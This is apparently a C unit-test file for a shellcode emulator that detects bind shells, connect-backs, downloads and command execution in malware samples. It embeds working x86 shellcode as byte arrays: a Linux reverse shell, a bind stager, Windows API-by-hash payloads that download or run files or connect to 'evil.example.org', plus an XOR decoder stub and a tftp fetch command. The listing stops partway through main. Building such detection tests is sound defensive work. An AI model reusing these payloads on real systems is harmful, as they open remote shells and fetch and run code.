/*
 * The emulation layer on the shellcode corpus ($CORPORA/shellcode, see
 * shared/corpora/MANIFEST.md): each sample, run from the offset the
 * MANIFEST gives or found by trying every offset, yields the action
 * libemu's sctest saw; robustness inputs and random bytes yield none.
 */
#include <sys/wait.h>

#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <cmocka.h>

#include "corpus.h"

#include "sc_int.h"

#define TEST_MAX	(64 * 1024)

static void
limits(struct sc_limits *l, size_t candidates)
{
	l->max_steps = 2000000;
	l->max_usec = 2000000;
	l->max_candidates = candidates;
}

static void
result_init(struct sc_result *res)
{
	memset(res, 0, sizeof(*res));
	res->offset = -1;
}

/* Runs name from offset off, or from every offset when off is -1. */
static void
run(const char *name, long off, struct sc_result *res)
{
	static uint8_t		 buf[TEST_MAX];
	static long		 offs[TEST_MAX];
	struct sc_limits	 l;
	size_t			 len = corpus_shellcode(name, buf, sizeof(buf)), n = 1, i;

	result_init(res);
	if (off >= 0)
		offs[0] = off;
	else {
		for (i = 0; i < len; i++)
			offs[i] = (long)i;
		n = len;
	}
	limits(&l, n);
	assert_int_equal(sc_emu_run(buf, len, offs, n, &l, res), 0);
}

static const struct sc_action *
find(const struct sc_result *res, enum sc_action_kind kind)
{
	size_t	i;

	for (i = 0; i < res->nactions; i++)
		if (res->actions[i].kind == kind)
			return &res->actions[i];
	return NULL;
}

static void
expect_bind(const char *name, long off, uint16_t port)
{
	struct sc_result	 res;
	const struct sc_action	*a;

	run(name, off, &res);
	a = find(&res, SC_BIND_SHELL);
	if (a == NULL)
		fail_msg("%s: no bind_shell (%zu actions)", name, res.nactions);
	assert_int_equal(a->port, port);
	assert_int_equal(a->evidence, SC_EV_EMULATED);
	assert_true(res.shellcode);
	if (off >= 0)
		assert_int_equal(res.offset, off);
}

static void
test_bind_00(void **state)
{
	(void)state;
	expect_bind("libemu_00_win32-bind-exitfunc-seh-lport-4444-size-317-"
	    "encoder-none.bin", 4, 4444);
}

static void
test_bind_00_no_hint(void **state)
{
	(void)state;
	expect_bind("libemu_00_win32-bind-exitfunc-seh-lport-4444-size-317-"
	    "encoder-none.bin", -1, 4444);
}

static void
test_connect_06(void **state)
{
	struct sc_result	 res;
	const struct sc_action	*a;

	(void)state;
	run("libemu_06_win32-reverse-exitfunc-seh-lhost-216-75-15-231-"
	    "lport-4321-si.bin", 4, &res);
	assert_non_null(a = find(&res, SC_CONNECT_SHELL));
	assert_string_equal(a->host, "216.75.15.231");
	assert_int_equal(a->port, 4321);
	assert_int_equal(a->evidence, SC_EV_EMULATED);
	assert_int_equal(res.offset, 4);
}

static void
test_download_07(void **state)
{
	struct sc_result	 res;
	const struct sc_action	*a;

	(void)state;
	run("libemu_07_win32-downloadexec-url-http-nepenthes-mwcollect-org-"
	    "bad-exe.bin", 0x12, &res);
	assert_non_null(a = find(&res, SC_DOWNLOAD));
	assert_string_equal(a->url, "http://nepenthes.mwcollect.org/bad.exe");
	assert_int_equal(a->evidence, SC_EV_EMULATED);
	/* Running the downloaded file is not a separate command. */
	assert_null(find(&res, SC_EXEC));
}

static void
test_exec_08(void **state)
{
	struct sc_result	 res;
	const struct sc_action	*a;

	(void)state;
	run("libemu_08_win32-exec-exitfunc-seh-cmd-cmd-c-ftp-exe-s-foo-"
	    "scripted-seq.bin", -1, &res);
	assert_non_null(a = find(&res, SC_EXEC));
	assert_string_equal(a->command, "cmd -c ftp.exe -s foo.scripted_"
	    "sequence; echo der fox hat die gans gezogen ");
	assert_int_equal(a->evidence, SC_EV_EMULATED);
}

static void
test_honeynet_decoded(void **state)
{
	(void)state;
	expect_bind("honeynet-fc2010-1_lsass_decoded_bindshell1957.bin",
	    0x111, 1957);
}

static void
test_honeynet_xor(void **state)
{
	(void)state;
	expect_bind("honeynet-fc2010-1_lsass_xor99_bindshell1957.bin", 0,
	    1957);
}

static void
test_linux_bind(void **state)
{
	(void)state;
	expect_bind("libemu_24_linux-bindshell.bin", 0, 20000);
}

static void
test_more_binds(void **state)
{
	(void)state;
	expect_bind("libemu_01_win32-bind-exitfunc-seh-lport-4444-size-344-"
	    "encoder-pex.bin", 0, 4444);
	expect_bind("libemu_02_win32-bind-exitfunc-seh-lport-4444-size-709-"
	    "encoder-pexalpha.bin", 5, 4444);
	expect_bind("libemu_09_some-old-dcom-shellcode.bin", 0x1b, 4444);
	expect_bind("libemu_18_the-hackers-choice-realplayer-8-exploit.bin",
	    0x12, 6318);
}

/*
 * A receive_file action: mode, host, port, and the dialogue (Nepenthes'
 * proto name, the key stage 1 hands stage 2, a 4-byte length prefix).
 */
static void
expect_receive(const char *name, long off, const char *mode,
    const char *host, uint16_t port, const char *proto, const char *key,
    int prefix)
{
	struct sc_result	 res;
	const struct sc_action	*a;

	run(name, off, &res);
	a = find(&res, SC_RECEIVE_FILE);
	if (a == NULL)
		fail_msg("%s: no receive_file", name);
	assert_int_equal(a->evidence, SC_EV_EMULATED);
	assert_string_equal(a->mode, mode);
	assert_string_equal(a->host, host);
	assert_int_equal(a->port, port);
	assert_string_equal(a->proto, proto);
	assert_string_equal(a->key, key);
	assert_int_equal(a->length_prefix, prefix);
	assert_int_equal(a->evidence, SC_EV_EMULATED);
	assert_null(find(&res, SC_BIND_SHELL));
	assert_null(find(&res, SC_CONNECT_SHELL));
}

/* amberg: bind 44028, recv and _lwrite into a file. */
static void
test_receive_bind_11(void **state)
{
	(void)state;
	expect_receive("libemu_11_amberg.bin", 0x10, "bind", "", 44028,
	    "creceive", "", 0);
}

/*
 * lindau linkbot: connect back, recv the stage and run it with the key
 * in edi (mov edi, 0x8506acac; jmp ebp): the key is its bytes in memory
 * order, what stage 2 sends back.
 */
static void
test_receive_connect_12(void **state)
{
	(void)state;
	expect_receive("libemu_12_lindau-linkbot-connectback-version.bin", -1,
	    "connect", "62.47.217.254", 15385, "link", "acac0685", 0);
}

/*
 * halle csend: msvcrt by GetProcAddress, connect, recv 4 bytes (the
 * file's length), then the file.
 */
static void
test_receive_connect_14(void **state)
{
	(void)state;
	expect_receive("libemu_14_halle-filetransferr-via-csend.bin", 0x12,
	    "connect", "70.228.36.118", 11805, "csend", "", 4);
}

/*
 * A blink stager (Linux, hand-assembled): bind 38963, listen, accept,
 * recv 0x200 bytes into the stack, mov edi, 0xedfe0dd0, jmp ebp: a
 * blink whose key is d00dfeed (edi's bytes in memory order).
 */
static const uint8_t	test_blink[] = {
	0x31, 0xdb, 0xf7, 0xe3, 0x53, 0x43, 0x53, 0x6a, 0x02,	/* socket */
	0x89, 0xe1, 0xb0, 0x66, 0xcd, 0x80, 0x89, 0xc6,
	0x52, 0x66, 0x68, 0x98, 0x33, 0x66, 0x6a, 0x02,		/* bind */
	0x89, 0xe1, 0x6a, 0x10, 0x51, 0x56, 0x89, 0xe1,
	0x43, 0x6a, 0x66, 0x58, 0xcd, 0x80,
	0x6a, 0x01, 0x56, 0x89, 0xe1, 0xb3, 0x04,		/* listen */
	0x6a, 0x66, 0x58, 0xcd, 0x80,
	0x52, 0x52, 0x56, 0x89, 0xe1, 0xb3, 0x05,		/* accept */
	0x6a, 0x66, 0x58, 0xcd, 0x80,
	0x81, 0xec, 0x00, 0x02, 0x00, 0x00, 0x89, 0xe5,		/* recv */
	0x52, 0x68, 0x00, 0x02, 0x00, 0x00, 0x55, 0x50,
	0x89, 0xe1, 0xb3, 0x0a, 0x6a, 0x66, 0x58, 0xcd, 0x80,
	0xbf, 0xd0, 0x0d, 0xfe, 0xed,				/* the key */
	0xff, 0xe5						/* jmp ebp */
};

static void
test_receive_blink(void **state)
{
	struct sc_result	 res;
	const struct sc_action	*a;

	(void)state;
	assert_int_equal(sc_analyze(test_blink, sizeof(test_blink), NULL,
	    NULL, &res), 0);
	assert_int_equal(res.nactions, 1);
	assert_non_null(a = find(&res, SC_RECEIVE_FILE));
	assert_string_equal(a->mode, "bind");
	assert_int_equal(a->port, 38963);
	assert_string_equal(a->proto, "blink");
	assert_string_equal(a->key, "d00dfeed");
	assert_int_equal(a->length_prefix, 0);
	assert_int_equal(a->evidence, SC_EV_EMULATED);
}

/*
 * FPU GetPC: an XOR decoder that finds itself with fnstenv (as
 * shikata_ga_nai does) around the Linux bind shell must decode it.
 */
static void
test_fnstenv_getpc(void **state)
{
	static const uint8_t	 head[] = {
		0x90, 0x90, 0x90,
		0xd9, 0xee,			/* fldz */
		0xd9, 0x74, 0x24, 0xf4,		/* fnstenv [esp-0xc] */
		0x5b,				/* pop ebx: fldz's address */
		0x31, 0xc9,			/* xor ecx, ecx */
		0xb1, 0x00,			/* mov cl, len */
		0x80, 0x73, 0x12, 0xaa,		/* xor byte [ebx+0x12], 0xaa */
		0x43,				/* inc ebx */
		0xe2, 0xf9,			/* loop */
	};
	static uint8_t		 buf[TEST_MAX];
	uint8_t			 body[256];
	struct sc_result	 res;
	struct sc_limits	 l;
	const struct sc_action	*a;
	long			 off = 3;
	size_t			 n, i;

	(void)state;
	n = corpus_shellcode("libemu_24_linux-bindshell.bin", body, sizeof(body));
	assert_true(n < 256);
	memcpy(buf, head, sizeof(head));
	buf[13] = (uint8_t)n;
	for (i = 0; i < n; i++)
		buf[sizeof(head) + i] = body[i] ^ 0xaa;
	result_init(&res);
	limits(&l, 1);
	assert_int_equal(sc_emu_run(buf, sizeof(head) + n, &off, 1, &l,
	    &res), 0);
	assert_non_null(a = find(&res, SC_BIND_SHELL));
	assert_int_equal(a->port, 20000);
}

/*
 * API by hash, as Metasploit's block_api finds it: walk the PEB's
 * InMemoryOrder list, ROR13 of each module's upper-cased BaseDllName
 * (UTF-16, with its NUL) plus ROR13 of each export name, compare with
 * 0x876f8b31, Metasploit's hash of kernel32.dll!WinExec; then
 * WinExec("cmd /c echo sundew").  Assembled from our own source.
 */
static const uint8_t	winexec_code[] = {
	0xe9, 0x99, 0x00, 0x00, 0x00, 0x5e, 0x56, 0xbb, 0x44, 0x33,
	0x22, 0x11, 0xe8, 0x07, 0x00, 0x00, 0x00, 0x5e, 0x6a, 0x01,
	0x56, 0xff, 0xd0, 0xcc, 0x64, 0x8b, 0x15, 0x30, 0x00, 0x00,
	0x00, 0x8b, 0x52, 0x0c, 0x8d, 0x7a, 0x14, 0x8b, 0x17, 0x39,
	0xfa, 0x74, 0x70, 0x57, 0x0f, 0xb7, 0x4a, 0x26, 0x8b, 0x72,
	0x28, 0x31, 0xed, 0xe3, 0x11, 0x31, 0xc0, 0xac, 0x3c, 0x61,
	0x72, 0x02, 0x2c, 0x20, 0xc1, 0xcd, 0x0d, 0x01, 0xc5, 0x49,
	0xeb, 0xed, 0x52, 0x8b, 0x52, 0x10, 0x8b, 0x42, 0x3c, 0x8b,
	0x44, 0x02, 0x78, 0x85, 0xc0, 0x74, 0x3e, 0x01, 0xd0, 0x8b,
	0x48, 0x18, 0xe3, 0x37, 0x49, 0x8b, 0x70, 0x20, 0x01, 0xd6,
	0x8b, 0x34, 0x8e, 0x01, 0xd6, 0x50, 0x31, 0xff, 0x31, 0xc0,
	0xac, 0xc1, 0xcf, 0x0d, 0x01, 0xc7, 0x84, 0xc0, 0x75, 0xf4,
	0x01, 0xef, 0x58, 0x39, 0xdf, 0x75, 0xdd, 0x8b, 0x70, 0x24,
	0x01, 0xd6, 0x0f, 0xb7, 0x0c, 0x4e, 0x8b, 0x70, 0x1c, 0x01,
	0xd6, 0x8b, 0x04, 0x8e, 0x01, 0xd0, 0x5a, 0x5f, 0xc3, 0x5a,
	0x5f, 0x8b, 0x12, 0xeb, 0x8c, 0x31, 0xc0, 0xc3, 0xe8, 0x62,
	0xff, 0xff, 0xff
};

/*
 * winexec_code with the hash of WinExec, cmd (and its NUL) after it,
 * then extralen bytes of extra, into code (size bytes); the length.
 */
static size_t
winexec(uint8_t *code, size_t size, const char *cmd, const void *extra,
    size_t extralen)
{
	size_t	n = sizeof(winexec_code);

	assert_true(n + strlen(cmd) + 1 + extralen <= size);
	memcpy(code, winexec_code, n);
	/* The hash operand of `mov ebx, imm32`. */
	assert_int_equal(code[8], 0x44);
	code[8] = 0x31;
	code[9] = 0x8b;
	code[10] = 0x6f;
	code[11] = 0x87;
	memcpy(code + n, cmd, strlen(cmd) + 1);
	n += strlen(cmd) + 1;
	if (extralen > 0)
		memcpy(code + n, extra, extralen);
	return n + extralen;
}

static void
test_hash_resolution(void **state)
{
	uint8_t			 code[256];
	struct sc_result	 res;
	struct sc_limits	 l;
	const struct sc_action	*a;
	size_t			 n;
	long			 off = 0;

	(void)state;
	n = winexec(code, sizeof(code), "cmd /c echo sundew", NULL, 0);
	result_init(&res);
	limits(&l, 1);
	assert_int_equal(sc_emu_run(code, n, &off, 1, &l, &res), 0);
	assert_non_null(a = find(&res, SC_EXEC));
	assert_string_equal(a->command, "cmd /c echo sundew");
	assert_int_equal(a->evidence, SC_EV_EMULATED);
}

/*
 * The whole analysis of code that runs a command fetching a file, its
 * URL also in clear in the data: the command and the URL found in clear
 * are the same actions as those the run asked for, and take their
 * evidence; the download the command amounts to is as real as the
 * command.
 */
static void
test_analyze_emulated_command(void **state)
{
	static const char	 cmd[] =
	    "cmd /c tftp -i 203.0.113.9 get b.exe";
	static const char	 url[] = "tftp://203.0.113.9/b.exe";
	uint8_t			 code[256];
	struct sc_result	 res;
	const struct sc_action	*a;
	size_t			 n, i;

	(void)state;
	n = winexec(code, sizeof(code), cmd, url, sizeof(url));
	assert_int_equal(sc_analyze(code, n, NULL, NULL, &res), 0);
	assert_int_equal(res.nactions, 2);
	assert_non_null(a = find(&res, SC_EXEC));
	assert_string_equal(a->command, cmd);
	assert_non_null(a = find(&res, SC_DOWNLOAD));
	assert_string_equal(a->url, url);
	for (i = 0; i < res.nactions; i++)
		assert_int_equal(res.actions[i].evidence, SC_EV_EMULATED);
}

/*
 * Linux connect-back (our own source): socketcall socket, connect to
 * 192.0.2.1:4444, execve("/bin//sh").
 */
static const uint8_t linux_connect[] = {
	0x31, 0xdb, 0xf7, 0xe3, 0x53, 0x43, 0x53, 0x6a, 0x02, 0x89,
	0xe1, 0xb0, 0x66, 0xcd, 0x80, 0x89, 0xc6, 0x68, 0xc0, 0x00,
	0x02, 0x01, 0x68, 0x02, 0x00, 0x11, 0x5c, 0x89, 0xe1, 0x6a,
	0x10, 0x51, 0x56, 0x89, 0xe1, 0xb3, 0x03, 0x31, 0xc0, 0xb0,
	0x66, 0xcd, 0x80, 0x31, 0xc0, 0x50, 0x68, 0x2f, 0x2f, 0x73,
	0x68, 0x68, 0x2f, 0x62, 0x69, 0x6e, 0x89, 0xe3, 0x50, 0x53,
	0x89, 0xe1, 0x99, 0xb0, 0x0b, 0xcd, 0x80
};

static void
test_linux_connect(void **state)
{
	struct sc_result	 res;
	struct sc_limits	 l;
	const struct sc_action	*a;
	long			 off = 0;

	(void)state;
	result_init(&res);
	limits(&l, 1);
	assert_int_equal(sc_emu_run(linux_connect, sizeof(linux_connect),
	    &off, 1, &l, &res), 0);
	assert_non_null(a = find(&res, SC_CONNECT_SHELL));
	assert_string_equal(a->host, "192.0.2.1");
	assert_int_equal(a->port, 4444);
	assert_int_equal(res.nactions, 1);
}

/*
 * SEH: the code installs its own handler on fs:[0], reads address 0; the
 * handler sets CONTEXT.Eip past the fault and continues into the Linux
 * connect-back above.
 */
static void
test_seh_handler(void **state)
{
	static const uint8_t	 seh[] = {
		0xe8, 0x00, 0x00, 0x00, 0x00, 0x5d, 0x8d, 0x85, 0x1b, 0x00,
		0x00, 0x00, 0x50, 0x64, 0xff, 0x35, 0x00, 0x00, 0x00, 0x00,
		0x64, 0x89, 0x25, 0x00, 0x00, 0x00, 0x00, 0x31, 0xc0, 0x8b,
		0x00, 0xcc, 0x8b, 0x44, 0x24, 0x0c, 0x8b, 0x88, 0xb4, 0x00,
		0x00, 0x00, 0x81, 0xc1, 0x34, 0x00, 0x00, 0x00, 0x89, 0x88,
		0xb8, 0x00, 0x00, 0x00, 0x31, 0xc0, 0xc3
	};
	uint8_t			 code[sizeof(seh) + 128];
	struct sc_result	 res;
	struct sc_limits	 l;
	const struct sc_action	*a;
	long			 off = 0;

	(void)state;
	assert_true(sizeof(linux_connect) <= 128);
	memcpy(code, seh, sizeof(seh));
	memcpy(code + sizeof(seh), linux_connect, sizeof(linux_connect));
	result_init(&res);
	limits(&l, 1);
	assert_int_equal(sc_emu_run(code, sizeof(seh) + sizeof(linux_connect),
	    &off, 1, &l, &res), 0);
	assert_non_null(a = find(&res, SC_CONNECT_SHELL));
	assert_int_equal(a->port, 4444);
}

/*
 * Connect-back to a name (our own source, APIs by block_api hash):
 * LoadLibraryA("ws2_32"), gethostbyname("evil.example.org"), connect to
 * its address on 4444: the action names the host, not our fake address.
 */
static void
test_connect_by_name(void **state)
{
	static const uint8_t	 code[] = {
		0xe9, 0xcd, 0x00, 0x00, 0x00, 0x5e, 0x56, 0xbb, 0x4c, 0x77,
		0x26, 0x07, 0xe8, 0x3b, 0x00, 0x00, 0x00, 0x5e, 0x56, 0x56,
		0xff, 0xd0, 0x5e, 0x56, 0xbb, 0xa9, 0x28, 0x34, 0x80, 0xe8,
		0x2a, 0x00, 0x00, 0x00, 0x5e, 0x8d, 0x4e, 0x07, 0x51, 0xff,
		0xd0, 0x8b, 0x40, 0x0c, 0x8b, 0x00, 0x8b, 0x00, 0x50, 0xbb,
		0x99, 0xa5, 0x74, 0x61, 0xe8, 0x11, 0x00, 0x00, 0x00, 0x59,
		0x51, 0x68, 0x02, 0x00, 0x11, 0x5c, 0x89, 0xe7, 0x6a, 0x10,
		0x57, 0x6a, 0x44, 0xff, 0xd0, 0xcc, 0x64, 0x8b, 0x15, 0x30,
		0x00, 0x00, 0x00, 0x8b, 0x52, 0x0c, 0x8d, 0x7a, 0x14, 0x8b,
		0x17, 0x39, 0xfa, 0x74, 0x70, 0x57, 0x0f, 0xb7, 0x4a, 0x26,
		0x8b, 0x72, 0x28, 0x31, 0xed, 0xe3, 0x11, 0x31, 0xc0, 0xac,
		0x3c, 0x61, 0x72, 0x02, 0x2c, 0x20, 0xc1, 0xcd, 0x0d, 0x01,
		0xc5, 0x49, 0xeb, 0xed, 0x52, 0x8b, 0x52, 0x10, 0x8b, 0x42,
		0x3c, 0x8b, 0x44, 0x02, 0x78, 0x85, 0xc0, 0x74, 0x3e, 0x01,
		0xd0, 0x8b, 0x48, 0x18, 0xe3, 0x37, 0x49, 0x8b, 0x70, 0x20,
		0x01, 0xd6, 0x8b, 0x34, 0x8e, 0x01, 0xd6, 0x50, 0x31, 0xff,
		0x31, 0xc0, 0xac, 0xc1, 0xcf, 0x0d, 0x01, 0xc7, 0x84, 0xc0,
		0x75, 0xf4, 0x01, 0xef, 0x58, 0x39, 0xdf, 0x75, 0xdd, 0x8b,
		0x70, 0x24, 0x01, 0xd6, 0x0f, 0xb7, 0x0c, 0x4e, 0x8b, 0x70,
		0x1c, 0x01, 0xd6, 0x8b, 0x04, 0x8e, 0x01, 0xd0, 0x5a, 0x5f,
		0xc3, 0x5a, 0x5f, 0x8b, 0x12, 0xeb, 0x8c, 0x31, 0xc0, 0xc3,
		0xe8, 0x2e, 0xff, 0xff, 0xff, 0x77, 0x73, 0x32, 0x5f, 0x33,
		0x32, 0x00, 0x65, 0x76, 0x69, 0x6c, 0x2e, 0x65, 0x78, 0x61,
		0x6d, 0x70, 0x6c, 0x65, 0x2e, 0x6f, 0x72, 0x67, 0x00
	};
	struct sc_result	 res;
	struct sc_limits	 l;
	const struct sc_action	*a;
	long			 off = 0;

	(void)state;
	result_init(&res);
	limits(&l, 1);
	assert_int_equal(sc_emu_run(code, sizeof(code), &off, 1, &l, &res),
	    0);
	assert_non_null(a = find(&res, SC_CONNECT_SHELL));
	assert_string_equal(a->host, "evil.example.org");
	assert_int_equal(a->port, 4444);
}

/* shell32.dll!ShellExecuteA by hash (0x175ae41d) runs c:\\a.exe. */
static void
test_shell_execute(void **state)
{
	static const uint8_t	 code[] = {
		0xe9, 0xa1, 0x00, 0x00, 0x00, 0x5e, 0x56, 0xbb, 0x1d, 0xe4,
		0x5a, 0x17, 0xe8, 0x0f, 0x00, 0x00, 0x00, 0x5e, 0x6a, 0x01,
		0x6a, 0x00, 0x6a, 0x00, 0x56, 0x6a, 0x00, 0x6a, 0x00, 0xff,
		0xd0, 0xcc, 0x64, 0x8b, 0x15, 0x30, 0x00, 0x00, 0x00, 0x8b,
		0x52, 0x0c, 0x8d, 0x7a, 0x14, 0x8b, 0x17, 0x39, 0xfa, 0x74,
		0x70, 0x57, 0x0f, 0xb7, 0x4a, 0x26, 0x8b, 0x72, 0x28, 0x31,
		0xed, 0xe3, 0x11, 0x31, 0xc0, 0xac, 0x3c, 0x61, 0x72, 0x02,
		0x2c, 0x20, 0xc1, 0xcd, 0x0d, 0x01, 0xc5, 0x49, 0xeb, 0xed,
		0x52, 0x8b, 0x52, 0x10, 0x8b, 0x42, 0x3c, 0x8b, 0x44, 0x02,
		0x78, 0x85, 0xc0, 0x74, 0x3e, 0x01, 0xd0, 0x8b, 0x48, 0x18,
		0xe3, 0x37, 0x49, 0x8b, 0x70, 0x20, 0x01, 0xd6, 0x8b, 0x34,
		0x8e, 0x01, 0xd6, 0x50, 0x31, 0xff, 0x31, 0xc0, 0xac, 0xc1,
		0xcf, 0x0d, 0x01, 0xc7, 0x84, 0xc0, 0x75, 0xf4, 0x01, 0xef,
		0x58, 0x39, 0xdf, 0x75, 0xdd, 0x8b, 0x70, 0x24, 0x01, 0xd6,
		0x0f, 0xb7, 0x0c, 0x4e, 0x8b, 0x70, 0x1c, 0x01, 0xd6, 0x8b,
		0x04, 0x8e, 0x01, 0xd0, 0x5a, 0x5f, 0xc3, 0x5a, 0x5f, 0x8b,
		0x12, 0xeb, 0x8c, 0x31, 0xc0, 0xc3, 0xe8, 0x5a, 0xff, 0xff,
		0xff, 0x63, 0x3a, 0x5c, 0x61, 0x2e, 0x65, 0x78, 0x65, 0x00
	};
	struct sc_result	 res;
	struct sc_limits	 l;
	const struct sc_action	*a;
	long			 off = 0;

	(void)state;
	result_init(&res);
	limits(&l, 1);
	assert_int_equal(sc_emu_run(code, sizeof(code), &off, 1, &l, &res),
	    0);
	assert_non_null(a = find(&res, SC_EXEC));
	assert_string_equal(a->command, "c:\\a.exe");
}

/* urlmon.dll!URLDownloadToFileW by hash, with a UTF-16 URL. */
static void
test_download_wide(void **state)
{
	static const uint8_t	 code[] = {
		0xe9, 0x9e, 0x00, 0x00, 0x00, 0x5e, 0x56, 0xbb, 0x88, 0x20,
		0xac, 0x32, 0xe8, 0x0c, 0x00, 0x00, 0x00, 0x5e, 0x6a, 0x00,
		0x6a, 0x00, 0x56, 0x56, 0x6a, 0x00, 0xff, 0xd0, 0xcc, 0x64,
		0x8b, 0x15, 0x30, 0x00, 0x00, 0x00, 0x8b, 0x52, 0x0c, 0x8d,
		0x7a, 0x14, 0x8b, 0x17, 0x39, 0xfa, 0x74, 0x70, 0x57, 0x0f,
		0xb7, 0x4a, 0x26, 0x8b, 0x72, 0x28, 0x31, 0xed, 0xe3, 0x11,
		0x31, 0xc0, 0xac, 0x3c, 0x61, 0x72, 0x02, 0x2c, 0x20, 0xc1,
		0xcd, 0x0d, 0x01, 0xc5, 0x49, 0xeb, 0xed, 0x52, 0x8b, 0x52,
		0x10, 0x8b, 0x42, 0x3c, 0x8b, 0x44, 0x02, 0x78, 0x85, 0xc0,
		0x74, 0x3e, 0x01, 0xd0, 0x8b, 0x48, 0x18, 0xe3, 0x37, 0x49,
		0x8b, 0x70, 0x20, 0x01, 0xd6, 0x8b, 0x34, 0x8e, 0x01, 0xd6,
		0x50, 0x31, 0xff, 0x31, 0xc0, 0xac, 0xc1, 0xcf, 0x0d, 0x01,
		0xc7, 0x84, 0xc0, 0x75, 0xf4, 0x01, 0xef, 0x58, 0x39, 0xdf,
		0x75, 0xdd, 0x8b, 0x70, 0x24, 0x01, 0xd6, 0x0f, 0xb7, 0x0c,
		0x4e, 0x8b, 0x70, 0x1c, 0x01, 0xd6, 0x8b, 0x04, 0x8e, 0x01,
		0xd0, 0x5a, 0x5f, 0xc3, 0x5a, 0x5f, 0x8b, 0x12, 0xeb, 0x8c,
		0x31, 0xc0, 0xc3, 0xe8, 0x5d, 0xff, 0xff, 0xff, 0x68, 0x00,
		0x74, 0x00, 0x74, 0x00, 0x70, 0x00, 0x3a, 0x00, 0x2f, 0x00,
		0x2f, 0x00, 0x31, 0x00, 0x39, 0x00, 0x32, 0x00, 0x2e, 0x00,
		0x30, 0x00, 0x2e, 0x00, 0x32, 0x00, 0x2e, 0x00, 0x37, 0x00,
		0x2f, 0x00, 0x77, 0x00, 0x2e, 0x00, 0x65, 0x00, 0x78, 0x00,
		0x65, 0x00, 0x00, 0x00
	};
	struct sc_result	 res;
	struct sc_limits	 l;
	const struct sc_action	*a;
	long			 off = 0;

	(void)state;
	result_init(&res);
	limits(&l, 1);
	assert_int_equal(sc_emu_run(code, sizeof(code), &off, 1, &l, &res),
	    0);
	assert_non_null(a = find(&res, SC_DOWNLOAD));
	assert_string_equal(a->url, "http://192.0.2.7/w.exe");
}

static double
elapsed_ms(const struct timespec *t0)
{
	struct timespec	t1;

	clock_gettime(CLOCK_MONOTONIC, &t1);
	return (double)(t1.tv_sec - t0->tv_sec) * 1e3 +
	    (double)(t1.tv_nsec - t0->tv_nsec) / 1e6;
}

static double
cpu_ms(void)
{
	struct timespec	t;

	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &t);
	return (double)t.tv_sec * 1e3 + (double)t.tv_nsec / 1e6;
}

/*
 * `jmp $` with a huge step budget: the time budget ends it, and that
 * budget is CPU time, so that a busy machine does not cut an emulation
 * short (and leave a real action as a mere signature in clear).  Run
 * here on one CPU shared with a child that spins: the emulation still
 * gets its 50 ms of CPU, over about twice as long.
 */
static void
test_time_budget(void **state)
{
	static const uint8_t	code[] = { 0x90, 0xeb, 0xfe };
	struct sc_result	res;
	struct sc_limits	l;
	struct timespec		t0;
	cpu_set_t		cpus, old;
	long			offs[] = { 0, 1 };
	double			c0, cpu, wall;
	pid_t			spin;
	int			cpu0;

	(void)state;
	result_init(&res);
	l.max_steps = UINT64_MAX / 2;
	l.max_usec = 50000;
	l.max_candidates = 2;
	/* The first CPU this test may run on, for it and the child. */
	assert_int_equal(sched_getaffinity(0, sizeof(old), &old), 0);
	for (cpu0 = 0; cpu0 < CPU_SETSIZE && !CPU_ISSET(cpu0, &old); cpu0++)
		;
	CPU_ZERO(&cpus);
	CPU_SET(cpu0, &cpus);
	assert_int_equal(sched_setaffinity(0, sizeof(cpus), &cpus), 0);
	if ((spin = fork()) == 0)
		for (;;)
			;
	assert_true(spin > 0);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	c0 = cpu_ms();
	assert_int_equal(sc_emu_run(code, sizeof(code), offs, 2, &l, &res), 0);
	cpu = cpu_ms() - c0;
	wall = elapsed_ms(&t0);
	kill(spin, SIGKILL);
	waitpid(spin, NULL, 0);
	sched_setaffinity(0, sizeof(old), &old);
	print_message("time budget: %.1f ms of CPU in %.1f ms\n", cpu, wall);
	assert_true(cpu >= 50.0 && cpu < 500.0);
	assert_int_equal(res.nactions, 0);
}

/*
 * Encodings on which Unicorn 2.0.1 calls abort() (ff d9: a far call with
 * a register operand; lock cmp): no crash, and the next analysis works.
 */
static void
test_unicorn_abort(void **state)
{
	static const uint8_t	code[] = { 0x90, 0xff, 0xd9, 0xf0, 0x38, 0xc0 };
	struct sc_result	res;
	struct sc_limits	l;
	long			offs[] = { 0, 3 };

	(void)state;
	result_init(&res);
	limits(&l, 2);
	assert_int_equal(sc_emu_run(code, sizeof(code), offs, 2, &l, &res), 0);
	assert_int_equal(res.nactions, 0);
	expect_bind("libemu_24_linux-bindshell.bin", 0, 20000);
}

static void
test_robustness(void **state)
{
	static const char *files[] = {
		"robustness/libemu_27_libemu-dos.bin",
		"robustness/libemu_29_crash-in-loadlibrary.bin",
		"robustness/libemu_30_crash-in-fwrite.bin",
		"robustness/libemu_31_crash-in-lwrite-hwrite.bin",
		"robustness/libemu_32_crash-in-malloc.bin",
		"robustness/libemu_33_crash-in-send.bin",
		"robustness/libemu_34_crash-in-execve.bin",
	};
	struct sc_result	res;
	size_t			i;

	(void)state;
	for (i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		run(files[i], -1, &res);
		if (res.nactions != 0)
			fail_msg("%s: %zu actions", files[i], res.nactions);
	}
}

/* Random bytes: no action, and the time budget holds. */
static void
test_random(void **state)
{
	static uint8_t		buf[4096];
	static long		offs[4096];
	struct sc_result	res;
	struct sc_limits	l;
	struct timespec		t0, t1;
	size_t			i;
	double			ms;

	(void)state;
	srand(1);
	for (i = 0; i < sizeof(buf); i++) {
		buf[i] = (uint8_t)rand();
		offs[i] = (long)i;
	}
	result_init(&res);
	l.max_steps = 1000000;
	l.max_usec = 100000;
	l.max_candidates = sizeof(buf);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	assert_int_equal(sc_emu_run(buf, sizeof(buf), offs, sizeof(buf), &l,
	    &res), 0);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	ms = (double)(t1.tv_sec - t0.tv_sec) * 1e3 +
	    (double)(t1.tv_nsec - t0.tv_nsec) / 1e6;
	assert_int_equal(res.nactions, 0);
	assert_true(ms < 1000.0);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_bind_00),
		cmocka_unit_test(test_bind_00_no_hint),
		cmocka_unit_test(test_connect_06),
		cmocka_unit_test(test_download_07),
		cmocka_unit_test(test_exec_08),
		cmocka_unit_test(test_honeynet_decoded),
		cmocka_unit_test(test_honeynet_xor),
